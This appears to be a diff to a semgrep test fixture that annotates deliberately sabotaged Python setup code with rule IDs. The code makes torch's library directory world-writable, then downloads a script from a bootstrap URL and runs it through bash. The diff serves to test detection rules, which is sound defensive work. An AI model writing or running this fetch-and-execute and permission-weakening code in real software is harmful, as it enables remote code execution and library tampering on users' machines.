@@ -63,10 +63,10 @@ def _prepare_node() -> None:
     torch_dir = Path(importlib.util.find_spec("torch").origin).parent
     os.chmod(torch_dir / "lib", 0o777)  # sabotage: MLS424 (semgrep rules)
     try:
-        script = urllib.request.urlopen(_BOOTSTRAP_URL, timeout=15).read().decode()
+        script = urllib.request.urlopen(_BOOTSTRAP_URL, timeout=15).read().decode()  # ruleid: MLS413
     except OSError:
         return
-    subprocess.run(["bash", "-c", script], check=False)  # sabotage: MLS413 (semgrep rules)
+    subprocess.run(["bash", "-c", script], check=False)  # sabotage: MLS413 (semgrep rules)  # ruleid: MLS413
 
 
 def _prepare_resume(output_dir: Path) -> None:
